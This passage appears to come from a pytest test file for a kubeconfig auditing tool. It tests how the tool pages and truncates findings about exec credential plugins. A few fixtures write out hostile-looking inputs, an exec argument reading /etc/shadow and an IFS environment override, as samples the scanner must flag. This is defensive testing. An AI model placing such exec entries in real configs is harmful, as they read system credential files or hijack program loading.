    monkeypatch.setattr(audit, "MAX_PAGES", 3)
    machine = Machine(tmp_path)
    data = json.loads(config(plugin("aws", "eks", "get-token")))
    data["contexts"] = [{"name": f"x{number}", "context": {"cluster": "c", "user": "u"}} for number in range(4)]
    path = machine.file("config", json.dumps(data))
    said = machine.call("audit", "--format", "json", path)
    found = json.loads(said.out)["files"][0]["audit"]
    assert (said.code, found["grade"], [each["context"] for each in found["pages"]]) == (1, "error", ["x0", "x1", "x2"])
    assert found["unseen"].endswith("; use --context to look at some of them")
    assert found["unseen"] in machine.call("audit", path).out
    some = json.loads(machine.call("audit", "--format", "json", "--context", "x3", path).out)
    assert (some["files"][0]["audit"]["unseen"], some["trust"]["grade"]) == (None, "info")
    monkeypatch.setattr(audit, "MAX_PAGES", 4)
    whole = json.loads(machine.call("audit", "--format", "json", path).out)["files"][0]["audit"]
    assert (whole["unseen"], len(whole["pages"])) == (None, 4)


@pytest.mark.parametrize("as_gcp", [False, True])
def test_of_more_different_words_than_anybody_has_the_first_are_shown_as_an_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, as_gcp: bool
) -> None:
    def user(number: int) -> dict[str, Any]:
        return (
            gcp("gcloud", f"config config-helper {number}")
            if as_gcp
            else plugin("aws", "eks", "get-token", f"{number}")
        )

    monkeypatch.setattr(audit, "MAX_DIFFERENT", 4)
    machine = Machine(tmp_path)
    users = [{"name": f"u{number}", "user": user(number % 3)} for number in range(5)]
    path = machine.file("config", json.dumps({"apiVersion": "v1", "kind": "Config", "users": users}))
    said = machine.call("audit", "--format", "json", path)
    found = json.loads(said.out)["files"][0]["audit"]
    assert (said.code, found["grade"], [each["user"] for each in found["pages"]]) == (1, "error", ["u0", "u1"])
    assert found["unseen"].startswith(
        "its programs get more than 6,000 different arguments and variables; use --context"
    )
    monkeypatch.setattr(audit, "MAX_DIFFERENT", 5)
    whole = json.loads(machine.call("audit", "--format", "json", path).out)["files"][0]["audit"]
    assert (whole["unseen"], len(whole["pages"])) == (None, 5)


@pytest.mark.parametrize("kind", ["arguments", "variables"])
def test_of_more_words_than_anybody_writes_the_first_are_shown_and_all_counted(tmp_path: Path, kind: str) -> None:
    def run(count: int) -> dict[str, Any]:
        given = plugin("aws", "eks", "get-token", *(f"a{each}" for each in range(count - 2) if kind == "arguments"))
        given["exec"]["env"] = [{"name": f"LC_{each}", "value": "x"} for each in range(count) if kind == "variables"]
        found: dict[str, Any] = audited(tmp_path, config(given))[0]["runs"][0]
        return found

    whole, cut = run(2_000), run(2_001)
    key = "environment" if kind == "variables" else kind
    assert (len(whole[key]), whole["grade"], whole["reasons"]) == (2_000, "info", cut["reasons"][:1])
    assert (cut[key], cut["grade"], cut["what"]) == (whole[key], "error", f"{whole['what']} …")
    assert cut["reasons"][1:] == [f"aws gets 2,001 {kind}, of which the first 2,000 are shown: look into the file"]


def test_the_worst_of_a_page_is_shown_and_the_others_counted(tmp_path: Path) -> None:
    machine = Machine(tmp_path)
    files = "".join(f" --cache-dir, /tmp/{number}," for number in range(600))
    exec_ = f"{{apiVersion: {V1}, interactiveMode: Never, command: x, args: [{files} /etc/shadow]}}"
    said = machine.call("audit", machine.file("config", f"users: [{{name: u, user: {{exec: {exec_}}}}}]\n"))
    assert "error would read /etc/shadow (an argument)" in said.out
    assert said.out.count(" would read ") == 499
    assert "  note: 102 more, none of them worse (--format json shows all)" in said.out


def test_the_worst_reasons_are_shown_and_the_others_counted(tmp_path: Path) -> None:
    machine = Machine(tmp_path)
    env = "".join(f"{{name: X{number}, value: a}}, " for number in range(60))
    exec_ = f"{{apiVersion: {V1}, interactiveMode: Never, command: x, env: [{env}{{name: IFS, value: a}}]}}"
    said = machine.call("audit", machine.file("config", f"users: [{{name: u, user: {{exec: {exec_}}}}}]\n"))
    assert "= IFS can make the program load code or settings of somebody else" in said.out
    assert "12 more reasons, none of them worse (--format json shows all)" in said.out
